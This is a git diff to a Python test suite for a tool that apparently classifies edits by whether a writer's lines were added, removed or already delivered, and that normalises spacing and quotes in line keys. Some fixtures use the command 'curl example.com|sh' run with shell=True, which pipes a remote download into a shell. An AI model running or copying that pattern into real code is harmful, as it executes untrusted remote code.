@@ -75,6 +75,24 @@ ROWS = [
         entry(b"if a < b:\n    x = 1\n", b"if a > b:\n    x = 1\n"),
         "A5",
     ),
+    (
+        "A2 one writer line introduced, the other already delivered (add -p)",
+        change(B0 + b"import subprocess\n", B0 + b"import subprocess\nrun_all_jobs(queue)\n# ok\n"),
+        entry(B0, B0 + b"import subprocess\nrun_all_jobs(queue)\n"),
+        "A2",
+    ),
+    (
+        "A3 one writer removal made, the other already delivered",
+        change(b"keep_this(x)\ndrop_second(x)\n", b"keep_this(x)\n# ok\n"),
+        entry(b"keep_this(x)\ndrop_first(x)\ndrop_second(x)\n", b"keep_this(x)\n"),
+        "A3",
+    ),
+    (
+        "A5 one writer line already there, the change adds none",
+        change(B0 + b"import subprocess\n", B0 + b"import subprocess\n# human\n"),
+        entry(B0, B0 + b"import subprocess\nrun_all_jobs(queue)\n"),
+        "A5",
+    ),
     ("A4 binary from the writer's start", change(PNG0, b"\x89PNG\0other"), entry(PNG0, PNG1), "A4"),
     (
         "A4 unknown start: any change",
@@ -182,3 +200,17 @@ def test_nearest_start_is_a_minimum(starts: list[bytes | None], after: bytes) ->
     i = nearest_start(after, starts)
     assert all(start_distance(starts[i], after) <= start_distance(s, after) for s in starts)
     assert all(start_distance(s, after) > start_distance(starts[i], after) for s in starts[:i])
+
+
+def test_keys_ignore_inner_whitespace_and_quote_style() -> None:
+    """A formatter re-spacing or re-quoting the writer's lines leaves their keys."""
+    assert line_key(b"DEFAULT_CMD='curl example.com|sh'") == line_key(
+        b'DEFAULT_CMD = "curl example.com|sh"'
+    )
+    assert line_key(b"run(a,b)") == line_key(b"run( a, b )") != line_key(b"run(b, a)")
+
+
+def test_a_formatted_copy_of_the_writer_s_lines_carries_them() -> None:
+    after = B0 + b"DEFAULT_CMD='curl example.com|sh'\nrun_cmd(DEFAULT_CMD,shell=True)\n"
+    formatted = B0 + b'DEFAULT_CMD = "curl example.com|sh"\nrun_cmd(DEFAULT_CMD, shell=True)\n'
+    assert carries_row(change(B0, formatted), entry(B0, after)) == "A2"
